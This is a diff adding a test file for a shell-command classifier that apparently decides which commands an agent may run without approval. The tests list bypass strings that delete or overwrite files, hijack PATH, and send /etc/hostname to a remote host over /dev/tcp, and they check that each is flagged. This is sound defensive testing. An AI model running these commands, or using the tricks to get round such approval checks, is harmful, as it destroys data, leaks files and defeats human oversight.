@@ -1,0 +1,145 @@
+// Commands that were once called free and changed something. Each that needs nothing but bash and coreutils is run here first, so
+// that the row is known to be an attack; those of other programs were tried by hand. Below them: plain work, which stays free.
+
+import { spawnSync } from 'node:child_process';
+import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import t from 'tap';
+import { classifyShell } from '../../policies/classify/shell/classifier.ts';
+
+const isFree = (text: string, terminal = false): boolean => {
+  const { understood, summary } = classifyShell(text, terminal);
+  return understood && (summary.access === 'read' || summary.access === 'session');
+};
+
+/** Each removes the file "victim", or writes into it. */
+const changesVictim = [
+  'echo victim | xargs --max-lines rm ls',
+  'echo victim | xargs --replace rm {}',
+  'echo -ovictim | xargs -I zz -L 1 sort',
+  'y=b; echo "-o victim #" | xargs -I% sort "%$y" a; y=; echo -ovictim | xargs -I% sort "%$y" a',
+  'op=-v; [ ! "$op" \'a[$(rm victim)]\' ]',
+  'op=-v; [ x -a "$op" \'a[$(rm victim)]\' ]',
+  'op=-v; test ! "$op" \'a[$(rm victim)]\'',
+  "x='y -o -v a[$(rm${IFS}victim)]'; [ -f $x ]",
+  "x=5; read -a x <<< 'a[$(rm${IFS}victim)]'; echo $((x))",
+  '((PATH=10)); ls',
+  'for ((PATH=10; PATH<11; PATH=11)); do ls; done',
+  'echo $((PATH=10)); ls',
+  "x='A rm victim'; env -u $x ls",
+  'env -u {A,rm} ls victim',
+  'cp a ls; timeout {5,rm} victim ls',
+  'uniq {a,victim}',
+  'cp a victi; uniq victi*',
+  "x='1970-01-01 -delete'; find . -newermt $x",
+  "x='a of=victim'; dd if=$x",
+  'uniq -- a victim',
+  'find . -newermt {1970-01-01,-delete}',
+];
+
+t.test('what bash does with them', async (t) => {
+  const home = mkdtempSync(join(tmpdir(), 'attack-shell-'));
+  t.teardown(() => rmSync(home, { recursive: true, force: true }));
+  for (const [index, text] of changesVictim.entries()) {
+    const cwd = join(home, String(index));
+    mkdirSync(join(cwd, '10'), { recursive: true });
+    writeFileSync(join(cwd, 'victim'), 'kept');
+    writeFileSync(join(cwd, 'a'), 'written\n');
+    writeFileSync(join(cwd, '10', 'ls'), '#!/bin/sh\n/bin/rm victim\n');
+    chmodSync(join(cwd, '10', 'ls'), 0o755);
+    spawnSync('bash', ['-c', text], { cwd, timeout: 5_000 });
+    const kept = existsSync(join(cwd, 'victim')) && spawnSync('cat', ['victim'], { cwd }).stdout.toString() === 'kept';
+    t.notOk(kept, `it is an attack: ${text}`);
+    t.notOk(isFree(text), text);
+  }
+});
+
+t.test('more that are not free', async (t) => {
+  const waits = [
+    'uniq -- in -out',
+    'xxd in -- -out',
+    "TERM=xterm watch -x sh -c 'find . -delete'",
+    "watch -tx sh -c 'find . -delete'",
+    'echo "-o victim" | xargs tree -I zz',
+    'read -a PATH <<< /tmp/evil; ls',
+    'read -aPATH <<< /tmp/evil; ls',
+    'exec {PATH}</etc/passwd; ls',
+    ': ${PROMPT_COMMAND:=rm x}',
+    '((x+=1))',
+    'systemctl --failed stop nginx',
+    'ip link s eth0 down',
+    // Its real arguments come over the connection: with --remove-source-files, say.
+    'rsync --server --sender -svlogDtpre.iLsfxCIvu . /data',
+    "sed 's/[]/]/;s/w tmp/x/' f",
+    'find . -name *',
+    'scp -f $x',
+    'x=/dev/tcp/10.0.0.1/80; exec 3< $x; cat /etc/hostname >&3',
+    'cat < /dev/t$(echo cp)/h/1',
+    'cat < /dev/{tcp,x}/a/1',
+    'x=/dev; cat < $x/tcp/a/1',
+    'x=; cat < $x/dev/tcp/a/1',
+    'cat < $1',
+    'x=/etc; read x; cat < $x',
+    'for x in /dev/tcp/a/1; do cat < $x; done',
+    'cat < ${x:-/dev/tcp/a/1}',
+    'cd /dev; cat < ~+/tcp/h/1',
+    'cd /dev; cat < $PWD/tcp/h/1',
+    'read <<< /dev/tcp/h/1; cat < $REPLY',
+  ];
+  for (const text of waits) t.notOk(isFree(text), text);
+});
+
+t.test('pagers of a terminal start programs', async (t) => {
+  const pages = ['dpkg -l', 'dmesg -H', 'dmesg --human', "systemctl list-units -- '*' --no-pager", 'journalctl -u ssh -u --no-pager'];
+  for (const text of pages) t.notOk(isFree(text, true), text);
+  const plain = [
+    'dpkg -l --no-pager',
+    'dpkg --no-pager -l bash',
+    'systemctl --failed --no-pager',
+    'systemctl status nginx --no-pager -l',
+    'systemctl list-units --type service --no-pager',
+    'journalctl -u nginx -n 50 --no-pager',
+    'journalctl -xe --no-pager',
+    'dmesg -T',
+  ];
+  for (const text of plain) t.ok(isFree(text, true), text);
+});
+
+t.test('plain work stays free', async (t) => {
+  const plain = [
+    'find . -name *.log -mtime +3',
+    'find /var/{log,tmp} -name x',
+    '[ $? -eq 0 ] && echo ok',
+    '[ -n "$x" ] && ls',
+    '[ "$a" = "b" ] && ls',
+    'test "$x"',
+    '[ -f "$f" ] && cat "$f"',
+    '[ "$a" = x -a "$b" = y ]',
+    'i=0; while [ "$i" -lt 3 ]; do ((i+=1)); done',
+    'i=0; ((i++)); echo $i',
+    'systemctl --failed',
+    'dpkg -l | grep nginx',
+    'ip -br link',
+    'ip link show eth0',
+    'while read -r a b; do echo "$b"; done < file',
+    'while read -r a; do echo "$a"; done < <(ls)',
+    'read -r -a words < file',
+    'for f in *.log; do wc -l < "$f"; done',
+    'f=/etc/hosts; wc -l < "$f"',
+    'd=/var/log; wc -l < "$d/syslog"',
+    'wc -l < "$HOME/x"',
+    'wc -l < ~/x',
+    'find . -type f -print0 | xargs -0 -I{} head -1 {}',
+    'cat list | xargs -I{} -n1 echo {}',
+    'find . -type f | xargs -n1 wc -l',
+    'watch -n 1 -t date',
+    'watch -x date',
+    'rsync --server --sender -vlogDtpre.iLsfxCIvu . /data',
+    "sed 's/[^]]*//; s/[abc]/x/' f",
+    "sed -E 's/^[[:space:]]+//' f",
+    'kubectl logs -f pod-1 --tail=10',
+    'grep -c -- -x file',
+  ];
+  for (const text of plain) t.ok(isFree(text), text);
+});
